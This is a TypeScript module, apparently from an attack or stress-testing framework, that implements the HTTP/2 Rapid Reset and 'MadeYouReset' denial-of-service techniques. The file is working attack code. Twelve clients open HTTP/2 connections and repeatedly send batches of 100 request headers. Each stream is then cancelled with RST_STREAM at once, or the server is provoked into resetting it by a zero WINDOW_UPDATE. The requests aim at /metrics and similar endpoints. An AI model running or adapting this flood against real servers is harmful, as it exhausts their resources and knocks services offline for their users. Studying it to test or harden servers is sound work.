import type { Attack } from '../../attack.ts';
import * as h2 from '../../client/http2-frames.ts';
import { flood, swarm } from '../../client/swarm.ts';

const CANCEL = h2.number32(8);

const BLOCKS = [
  h2.requestBlock('GET', '/metrics'),
  h2.requestBlock('GET', '/api/v1/metrics'),
  h2.requestBlock('POST', '/metrics/job/reset', [['content-encoding', 'gzip']]),
  h2.requestBlock('GET', '/'),
];

export const http2RapidReset: Attack = {
  what: 'HTTP/2: requests that are reset at once, by the client or by provoking the server to do it',
  against: 'tls',
  clients: 12,
  start: async (target, signal) =>
    swarm(target, signal, async (client) => {
      const socket = await client.connect('h2');
      socket.write(Buffer.concat([h2.PREFACE, h2.settings(), h2.settingsAck]));
      socket.on('data', (chunk: Buffer) => client.tally.add('bytes read', chunk.length));
      const block = BLOCKS[client.index % BLOCKS.length] ?? Buffer.alloc(0);
      // A window of 0 more is an error of the stream, which the server answers with a reset ("MadeYouReset").
      const provoked = Math.floor(client.index / BLOCKS.length) % 2 === 1;
      let stream = 1;
      await flood(client, socket, () => {
        const frames: Buffer[] = [];
        for (let i = 0; i < 100; i++, stream += 2) {
          frames.push(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block));
          frames.push(
            provoked
              ? h2.frame(h2.WINDOW_UPDATE, 0, stream, h2.number32(0))
              : h2.frame(h2.RST_STREAM, 0, stream, CANCEL),
          );
        }
        client.tally.add('streams', 100);
        return Buffer.concat(frames);
      });
    }),
};
